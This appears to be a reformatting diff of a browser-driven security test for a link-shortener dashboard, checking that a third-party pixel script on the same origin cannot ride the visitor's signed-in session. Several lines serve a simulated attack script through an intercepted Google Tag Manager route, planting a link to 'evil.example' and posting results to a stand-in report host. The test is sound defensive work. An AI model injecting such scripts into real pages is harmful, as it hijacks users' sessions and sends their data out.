@@ -28,7 +28,7 @@ const ATTACK = `async (plant) => {
 const REPORT = 'https://report.test/attack';
 const DESTINATION = 'https://destination.test/landing';
 
-describe.skipIf(!chromiumPresent())('a pixel page on the dashboard\'s origin cannot use the visitor\'s session', () => {
+describe.skipIf(!chromiumPresent())("a pixel page on the dashboard's origin cannot use the visitor's session", () => {
   let proxy: TlsProxy;
   let server: TestServer;
   let browser: Browser;
@@ -51,16 +51,25 @@ describe.skipIf(!chromiumPresent())('a pixel page on the dashboard\'s origin can
     await proxy?.close();
   });
 
-  const links = async () => (await server.call('GET', '/api/urls?limit=100', { key: apiKey })).body.data.urls.map((u: { longurl: string }) => u.longurl);
+  const links = async () =>
+    (await server.call('GET', '/api/urls?limit=100', { key: apiKey })).body.data.urls.map((u: { longurl: string }) => u.longurl);
 
   /** Signs in from a page of the origin, as the dashboard does, and answers that page. */
   async function signedInPage(): Promise<Page> {
     const page = await context.newPage();
     page.setDefaultTimeout(10_000);
     await page.goto(`${proxy.url}/health`);
-    const status = await page.evaluate(async ([e, p]) => (await fetch('/api/session', {
-      method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email: e, password: p }),
-    })).status, [email, PASSWORD]);
+    const status = await page.evaluate(
+      async ([e, p]) =>
+        (
+          await fetch('/api/session', {
+            method: 'POST',
+            headers: { 'content-type': 'application/json' },
+            body: JSON.stringify({ email: e, password: p }),
+          })
+        ).status,
+      [email, PASSWORD],
+    );
     expect(status).toBe(200);
     const cookie = (await context.cookies(proxy.url)).find((c) => c.name === '__Host-redirectory_session');
     expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', secure: true });
@@ -77,7 +86,10 @@ describe.skipIf(!chromiumPresent())('a pixel page on the dashboard\'s origin can
     let report: Record<string, string> | undefined;
     await context.route('https://www.googletagmanager.com/**', (route) => {
       served = true;
-      return route.fulfill({ contentType: 'application/javascript', body: `(${ATTACK})('https://evil.example/planted').then((o) => fetch(${JSON.stringify(REPORT)}, { method: 'POST', body: JSON.stringify(o) }));` });
+      return route.fulfill({
+        contentType: 'application/javascript',
+        body: `(${ATTACK})('https://evil.example/planted').then((o) => fetch(${JSON.stringify(REPORT)}, { method: 'POST', body: JSON.stringify(o) }));`,
+      });
     });
     let reported: () => void = () => {};
     const reportArrived = new Promise<void>((resolve) => (reported = resolve));
